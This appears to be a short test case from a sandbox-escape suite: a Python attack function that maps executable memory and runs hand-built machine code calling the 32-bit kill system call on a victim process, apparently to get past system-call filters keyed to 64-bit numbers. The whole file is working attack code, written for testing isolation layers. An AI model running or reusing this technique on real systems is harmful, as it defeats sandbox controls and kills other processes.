# C43: calls the kernel by 32-bit numbers from machine code of its own
# Without layers: may succeed
import struct
import sys

os = sys.modules["os"]

ALL, PRIVATE_ANONYMOUS, KILL = 7, 0x22, 37


def attack(facts):
    if os.uname().machine != "x86_64":
        return sys.modules["ctypes"].CDLL(None).kill(facts["victim"], 9) == 0
    ctypes = sys.modules["ctypes"]
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    place = libc.mmap(None, ctypes.c_size_t(4096), ALL, PRIVATE_ANONYMOUS, -1, ctypes.c_long(0))
    # push rbx; mov eax, KILL; mov ebx, victim; mov ecx, 9; int 0x80; pop rbx; ret
    code = struct.pack("<BBIBIBI", 0x53, 0xB8, KILL, 0xBB, facts["victim"], 0xB9, 9) + b"\xcd\x80\x5b\xc3"
    ctypes.memmove(place, code, len(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(place)() == 0
